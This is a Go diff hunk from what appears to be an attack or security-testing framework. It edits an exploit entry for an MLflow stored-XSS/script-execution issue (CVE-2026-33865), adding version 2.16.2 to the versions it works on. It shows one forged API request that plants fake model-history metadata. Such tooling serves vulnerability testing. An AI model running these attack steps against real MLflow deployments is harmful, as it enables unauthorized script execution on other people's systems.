@@ -133,7 +133,7 @@ var mlflowForgery = []Attack{
 		ID:    "mlflow/model-file-script",
 		CVE:   []string{"CVE-2026-33865"},
 		Doc:   "uploads an MLmodel whose YAML makes the interface run a script",
-		Works: []string{"3.9.0"},
+		Works: []string{"2.16.2", "3.9.0"},
 		Steps: []Step{
 			experiment(), newRun(),
 			post(api2+"/runs/set-tag", `{"run_id": "${run}", "key": "mlflow.log-model.history", "value": "[{\"run_id\": \"${run}\", \"artifact_path\": \"model\", \"utc_time_created\": \"2026-01-01 00:00:00\", \"flavors\": {\"python_function\": {}}}]"}`),
